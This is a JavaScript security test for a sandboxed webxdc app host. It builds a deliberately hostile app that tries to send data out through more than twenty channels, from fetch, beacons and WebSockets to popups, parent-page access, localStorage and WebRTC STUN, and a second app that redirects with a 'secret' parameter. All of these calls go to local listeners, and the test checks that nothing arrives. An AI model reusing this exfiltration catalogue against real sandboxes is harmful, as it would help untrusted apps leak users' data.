// A hostile app tries whatever a document can to reach somebody: nothing of it arrives anywhere.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { createServer as listenTcp } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { equal, holds, until } from '../lib.mjs';
import { stored } from '../zip.mjs';

export default async function (world) {
  const { alice } = world.people;
  const reached = [];
  const http = createServer((request, answer) => {
    reached.push(`http ${request.method} ${request.url}`);
    answer.setHeader('access-control-allow-origin', '*');
    answer.end('reached');
  });
  const tcp = listenTcp((socket) => {
    reached.push('tcp');
    socket.destroy();
  });
  const udp = createSocket('udp4', () => reached.push('udp'));
  const [web, raw, stun] = await Promise.all([
    new Promise((done) => http.listen(0, '127.0.0.1', () => done(http.address().port))),
    new Promise((done) => tcp.listen(0, '127.0.0.1', () => done(tcp.address().port))),
    new Promise((done) => (udp.on('message', () => reached.push('stun')), udp.bind(0, '127.0.0.1', () => done(udp.address().port)))),
  ]);
  // That these hear what reaches them.
  await fetch(`http://127.0.0.1:${web}/self`);
  equal(reached, ['http GET /self'], 'the ears are open');
  reached.length = 0;

  const files = { 'index.html': hostile(web, raw, stun), 'sw.js': 'onfetch = (event) => event.respondWith(new Response("<script>fetch(1)</script>"));', 'other.html': '<p>other' };
  const path = join(tmpdir(), `dak-hostile-${process.pid}.xdc`);
  writeFileSync(path, stored(files));
  writeFileSync(path.replace('hostile', 'leaving'), stored({ 'index.html': leaving(web) }));
  const { id } = await alice.one('send', 'me', '-f', path);
  const page = await alice.page();
  let gone = false;
  const devtools = await world.browser.newBrowserCDPSession();
  devtools.on('Target.targetCrashed', () => (gone = true));
  await devtools.send('Target.setDiscoverTargets', { discover: true });
  const origin = new URL(page.url()).origin;
  await page.evaluate((id) => (location.hash = `#/app/${id}`), id);
  const frame = await (await page.waitForSelector('iframe.app-frame')).contentFrame();

  // It has tried all of it once it says so, by the one way that it has; but for WebRTC, with which the browser ends it.
  const told = async () => (await alice.rows('app', id)).map(({ payload }) => payload);
  await until('it has tried almost everything', async () => (await told()).some(({ said }) => said));
  await until('it has tried everything', async () => gone || (await told()).some(({ done }) => done));
  const { said } = (await told()).at(-1);
  equal(reached, [], 'nothing came anywhere');
  for (const [what, came] of Object.entries(said)) holds(came === 'no', `${what}: ${came}`);
  holds(page.url().startsWith(origin), 'the page is where it was');
  equal(world.browser.contexts().flatMap((context) => context.pages()).length, 1, 'no window was opened');

  // By itself, in a tab of its own, it is nothing.
  const alone = await page.context().newPage();
  const answer = await alone.goto(frame.url());
  equal(answer.status(), 403, 'an app is no document by itself');
  await alone.close();
  // A frame that goes elsewhere goes nowhere.
  await page.evaluate(() => (location.hash = '#/app'));
  await page.getByRole('link', { name: /hostile/ }).waitFor();
  const other = await alice.one('send', 'me', '-f', path.replace('hostile', 'leaving'));
  await page.evaluate((id) => (location.hash = `#/app/${id}`), other.id);
  await page.waitForSelector('iframe.app-frame');
  await until('it went', async () => (await alice.rows('app', other.id)).some(({ payload }) => payload === 'leaving'));
  await page.evaluate(() => (location.hash = '#/app'));
  await page.getByRole('heading', { name: 'Apps' }).waitFor();
  equal(reached, [], 'nothing came anywhere afterwards');
  // Its own page says all that it was kept from.
  world.wrong.length = 0;
  http.close();
  tcp.close();
  udp.close();
}

/** It goes elsewhere with what it has, and says so where it still is. */
function leaving(web) {
  return `<!doctype html><script src="webxdc.js"></script><script>
addEventListener('securitypolicyviolation', () => webxdc.sendUpdate({ payload: 'leaving' }, ''));
setInterval(() => webxdc.sendUpdate({ payload: 'leaving' }, ''), 1500);
location.href = 'http://127.0.0.1:${web}/away?secret';
</script>`;
}

function hostile(web, raw, stun) {
  return `<!doctype html><meta charset="utf-8">
<link rel="dns-prefetch" href="//127.0.0.1:${web}"><link rel="preconnect" href="http://127.0.0.1:${raw}"><link rel="prefetch" href="http://127.0.0.1:${web}/prefetch">
<link rel="stylesheet" href="http://127.0.0.1:${web}/style.css">
<script src="webxdc.js"></script>
<img src="http://127.0.0.1:${web}/picture"><a id="ping" href="other.html" target="inner" ping="http://127.0.0.1:${web}/ping">x</a><iframe name="inner"></iframe>
<script>
const said = {};
const out = 'http://127.0.0.1:${web}';
const tried = async (what, doing) => {
  try { said[what] = (await doing()) ? 'it did' : 'no'; } catch { said[what] = 'no'; }
};
const rtc = async (window) => {
  const peer = new window.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });
  let found = false;
  peer.onicecandidate = ({ candidate }) => (found ||= !!candidate);
  peer.createDataChannel('x');
  await peer.setLocalDescription();
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return found;
};
const inner = (doing) => new Promise((resolve, reject) => {
  const frame = document.createElement('iframe');
  doing(frame);
  document.body.append(frame);
  resolve(frame.contentWindow);
});
(async () => {
  await tried('fetch', () => fetch(out + '/fetch'));
  await tried('no-cors', () => fetch(out + '/no-cors', { mode: 'no-cors' }));
  await tried('beacon', () => (navigator.sendBeacon(out + '/beacon', 'x'), false));
  await tried('xhr', () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', out + '/xhr'); x.onload = yes; x.onerror = no; x.send(); }));
  await tried('websocket', () => new Promise((yes, no) => { const s = new WebSocket('ws://127.0.0.1:${raw}/'); s.onopen = yes; s.onerror = no; }));
  await tried('events', () => new Promise((yes, no) => { const s = new EventSource(out + '/events'); s.onopen = yes; s.onerror = no; }));
  await tried('import', () => import(out + '/module.js'));
  await tried('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + out + '/worker").then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => yes(data); w.onerror = no; }));
  await tried('service worker', () => navigator.serviceWorker.register('sw.js'));
  await tried('picture', () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = out + '/img'; }));
  await tried('form', () => { const f = document.createElement('form'); f.action = out + '/form'; f.target = 'inner'; document.body.append(f); f.submit(); return false; });
  await tried('ping', () => { document.getElementById('ping').click(); return false; });
  await tried('popup', () => window.open(out + '/popup'));
  await tried('top', () => { top.location.href = out + '/top'; return false; });
  await tried('page', () => parent.document.title);
  await tried('api', () => fetch('/v1/me').then((answer) => answer.ok));
  await tried('page api', () => fetch(document.referrer || 'http://127.0.0.1:${web}/x'));
  await tried('inner fetch', async () => (await inner(() => {})).fetch(out + '/inner'));
  await tried('srcdoc', async () => { await inner((frame) => (frame.srcdoc = '<img src="' + out + '/srcdoc">')); return false; });
  await tried('data frame', async () => { await inner((frame) => (frame.src = 'data:text/html,<img src="' + out + '/data">')); return false; });
  await tried('frame', async () => { await inner((frame) => (frame.src = out + '/frame')); return false; });
  await tried('storage of the page', () => localStorage.getItem('dak.page'));
  // What the reader of these has to be told first: a connection that is refused may end the document.
  webxdc.sendUpdate({ payload: { said: { ...said } } }, '');
  await tried('webrtc', () => rtc(window));
  await tried('webrtc within', async () => rtc(await inner(() => {})));
  webxdc.sendUpdate({ payload: { done: true, said } }, '');
})();
</script>`;
}
